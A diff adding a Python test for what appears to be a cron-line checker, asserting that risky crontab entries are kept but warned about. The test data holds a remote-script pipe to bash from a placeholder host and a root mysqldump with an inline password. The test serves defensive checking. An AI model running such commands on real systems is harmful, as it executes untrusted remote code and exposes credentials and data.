@@ -257,3 +257,11 @@ def test_what_is_hardly_meant_is_corrected_before_it_is_guarded(line: str, decis
     result = verdict(f"{line}\n")
     assert result.decision is decision
     assert ("hardly what was meant" in result.because) == (decision is not Decision.GUARD)
+
+
+def test_what_a_warning_speaks_against_is_not_said_to_have_nothing_against_it() -> None:
+    for line in ("curl -s https://x.example/install.sh | bash", "mysqldump -uroot -phunTer2x9 shop > /b/shop.sql"):
+        result = verdict(f"0 3 * * * root {line}\n")
+        assert result.decision is Decision.KEEP
+        assert "nothing speaks against it" not in result.because
+        assert "settle first: " in result.because
